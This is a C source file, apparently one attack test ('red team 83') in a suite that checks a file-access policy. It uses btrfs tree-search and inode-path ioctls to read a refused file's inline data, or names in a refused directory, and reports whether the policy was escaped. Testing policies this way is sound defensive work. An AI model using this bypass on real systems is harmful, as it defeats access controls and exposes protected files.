/* btrfs_search.c DIR [paths SUBDIR]: read a file the table refuses, or its directory's names,
 * through btrfs's tree search or inode paths (red team 83).  DIR, a directory of the btrfs
 * the table lets be read, is opened and the file system synced (a file's extents are written
 * at its writeback).  By default BTRFS_IOC_TREE_SEARCH returns the items of its subvolume's
 * tree -- a small file's inline extent holds its bytes -- for every file of the subvolume,
 * names no rule is asked about: ESCAPED when an item holds the secret.  With "paths",
 * BTRFS_IOC_INO_PATHS names inodes 256..4095 of that subvolume: ESCAPED when a name lies below
 * SUBDIR (relative to the subvolume's root; a directory whose listing the table refuses).
 * BLOCKED with the failing step's errno otherwise.  Root (CAP_SYS_ADMIN) and a btrfs (the
 * test mounts an image).
 */
#include "attack.h"

#include <linux/btrfs.h>
#include <linux/btrfs_tree.h>
#include <sys/ioctl.h>

static void names(int dir, const char *subdir) {
    size_t len = strlen(subdir);
    static char buf[4096];
    for (__u64 ino = BTRFS_FIRST_FREE_OBJECTID; ino < 4096; ino++) {
        struct btrfs_ioctl_ino_path_args args;
        memset(&args, 0, sizeof args);
        args.inum = ino;
        args.size = sizeof buf;
        args.fspath = (__u64)(uintptr_t)buf;
        if (ioctl(dir, BTRFS_IOC_INO_PATHS, &args) < 0) {
            if (errno == ENOENT)
                continue;
            blocked("BTRFS_IOC_INO_PATHS %llu: %s", (unsigned long long)ino, ename(errno));
        }
        struct btrfs_data_container *found = (struct btrfs_data_container *)buf;
        for (__u32 i = 0; i < found->elem_cnt; i++) {
            const char *name = (const char *)found->val + found->val[i];
            if (!strncmp(name, subdir, len) && name[len] == '/')
                escaped("inode %llu is %s", (unsigned long long)ino, name);
        }
    }
    blocked("no name below %s", subdir);
}

int main(int argc, char **argv) {
    if (argc != 2 && !(argc == 4 && !strcmp(argv[2], "paths")))
        blocked("usage: %s DIR [paths SUBDIR]", argv[0]);
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0)
        blocked("open %s: %s", argv[1], ename(errno));
    if (syncfs(dir) < 0)
        blocked("syncfs %s: %s", argv[1], ename(errno));
    if (argc == 4)
        names(dir, argv[3]);
    static struct btrfs_ioctl_search_args args;
    args.key.tree_id = 0;  /* the descriptor's own subvolume */
    args.key.max_objectid = (__u64)-1;
    args.key.min_type = BTRFS_EXTENT_DATA_KEY;
    args.key.max_type = BTRFS_EXTENT_DATA_KEY;
    args.key.max_offset = (__u64)-1;
    args.key.max_transid = (__u64)-1;
    args.key.nr_items = 4096;
    if (ioctl(dir, BTRFS_IOC_TREE_SEARCH, &args) < 0)
        blocked("BTRFS_IOC_TREE_SEARCH %s: %s", argv[1], ename(errno));
    if (memmem(args.buf, sizeof args.buf, SECRET_MAGIC, strlen(SECRET_MAGIC)))
        escaped("read the secret in %s's tree (%u items)", argv[1], args.key.nr_items);
    blocked("%u items, no secret", args.key.nr_items);
}
